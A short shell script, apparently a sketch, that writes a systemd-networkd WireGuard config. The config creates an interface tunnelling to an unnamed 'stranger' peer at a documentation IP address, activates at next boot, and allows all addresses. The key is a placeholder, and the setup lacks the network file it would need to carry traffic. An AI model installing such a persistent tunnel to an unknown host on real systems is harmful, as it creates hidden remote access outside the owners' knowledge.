#!/bin/sh
# A tunnel to a stranger, at the next boot.
set -eu
cat >/etc/systemd/network/99-stranger.netdev <<'END'
[NetDev]
Name=wg0
Kind=wireguard

[WireGuard]
PrivateKey=@network.wireguard.stranger

[WireGuardPeer]
PublicKey=c3RyYW5nZXIgc3RyYW5nZXIgc3RyYW5nZXIgc3RyYW4=
AllowedIPs=0.0.0.0/0
Endpoint=198.51.100.1:51820
END
